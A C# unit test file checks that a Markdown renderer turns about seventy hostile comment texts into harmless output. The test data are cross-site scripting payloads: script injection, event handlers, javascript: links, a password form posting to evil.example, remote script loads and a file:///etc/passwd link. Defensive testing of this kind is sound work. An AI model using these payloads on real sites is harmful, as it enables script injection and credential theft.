using PsyLit.Core.Markdown;

namespace PsyLit.Core.Tests.Markdown;

/// <summary>Texts written to smuggle a script, a frame, a form or a request into a comment; one line each, one trick each.</summary>
public sealed class HostileMarkdownTests
{
    private readonly MarkdownRenderer _renderer = new();

    public static TheoryData<string> Texts { get; } =
    [
        "<script>window.hit=1</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<scr<script>ipt>window.hit=1</scr</script>ipt>",
        "<img src=x onerror=window.hit=1>",
        "<img/src=x/onerror=window.hit=1>",
        "<svg onload=window.hit=1>",
        "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
        "<svg><style><img src=x onerror=window.hit=1></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
        "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
        "<object data=data:text/html,<script>window.hit=1</script>></object>",
        "<form action=//evil.example><input name=password><button>Log in</button></form>",
        "<a href=javascript:window.hit=1>x</a>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{background:url(//evil.example/x)}</style>",
        "<p style=position:fixed;inset:0>over everything</p>",
        "<template><script>window.hit=1</script></template>",
        "<details open ontoggle=window.hit=1>x</details>",
        "<!--><script>window.hit=1</script>-->",
        "<![CDATA[<script>window.hit=1</script>]]>",
        "[x](javascript:window.hit=1)",
        "[x](JaVaScRiPt:window.hit=1)",
        "[x](java&#x0A;script:window.hit=1)",
        "[x](&#106;avascript:window.hit=1)",
        "[x](\u0001javascript:window.hit=1)",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
        "[x](file:///etc/passwd)",
        "[x]: javascript:window.hit=1\n\n[x]",
        "[x](<javascript:window.hit=1> \"t\")",
        "<javascript:window.hit=1>",
        "![x](javascript:window.hit=1)",
        "![x\" onerror=\"window.hit=1](https://evil.example/x.png)",
        "![x](https://evil.example/x.png \"t\" onerror=window.hit=1)",
        "[x](https://e.example/ \"t\\\" onmouseover=window.hit=1 x=\\\"\")",
        "[x](https://e.example/\"onmouseover=window.hit=1)",
        "https://e.example/\"onmouseover=\"window.hit=1",
        "```\"><script>window.hit=1</script>\nx\n```",
        "`<script>window.hit=1</script>`",
        "| <script>window.hit=1</script> |\n|---|\n| <img src=x onerror=window.hit=1> |",
        "# <img src=x onerror=window.hit=1>",
        "[<img src=x onerror=window.hit=1>](https://e.example)",
        "doi:10.1234/\"onmouseover=window.hit=1",
        "10.1234/javascript:window.hit=1",
        "&lt;script&gt;window.hit=1&lt;/script&gt;",
        "\\<script>window.hit=1\\</script>",
        "\0<scr\0ipt>window.hit=1</script>",
        "{onclick=window.hit=1}",
        "# head {onclick=window.hit=1 style=color:red}",
        "$</math><img src=x onerror=window.hit=1>$",
        "$\\text{<img src=x onerror=window.hit=1>}$",
        "$\\text{</mtext><script>window.hit=1</script>}$",
        "$\\mathrm{<mglyph><style><img src=x onerror=window.hit=1>}$",
        "$\\href{javascript:window.hit=1}{x}$",
        "$\\unknown{<svg onload=window.hit=1>}$",
        "$x\" onmouseover=\"window.hit=1$",
        "$$\n</math><iframe srcdoc='<script>parent.hit=1</script>'>\n$$",
        "$$\n\\begin{<script>window.hit=1</script>}x\\end{x}\n$$",
        "x[^a\" onmouseover=\"window.hit=1]\n\n[^a\" onmouseover=\"window.hit=1]: y",
        "x[^<script>]\n\n[^<script>]: <img src=x onerror=window.hit=1>",
        "- [x] <input name=password>",
        "- [ ] <input type=image src=x onerror=window.hit=1>",
        "@\"><script>window.hit=1</script>",
        "#\"onmouseover=window.hit=1",
    ];

    [Theory]
    [MemberData(nameof(Texts))]
    public void Nothing_but_text_comes_of_it(string markdown) => HtmlAllowList.Check(_renderer.ToHtml(markdown));

    [Fact]
    public void Tags_are_shown_to_the_reader_as_they_were_typed() =>
        Assert.Equal("<p>&lt;b&gt;bold&lt;/b&gt;</p>", _renderer.ToHtml("<b>bold</b>"));
}
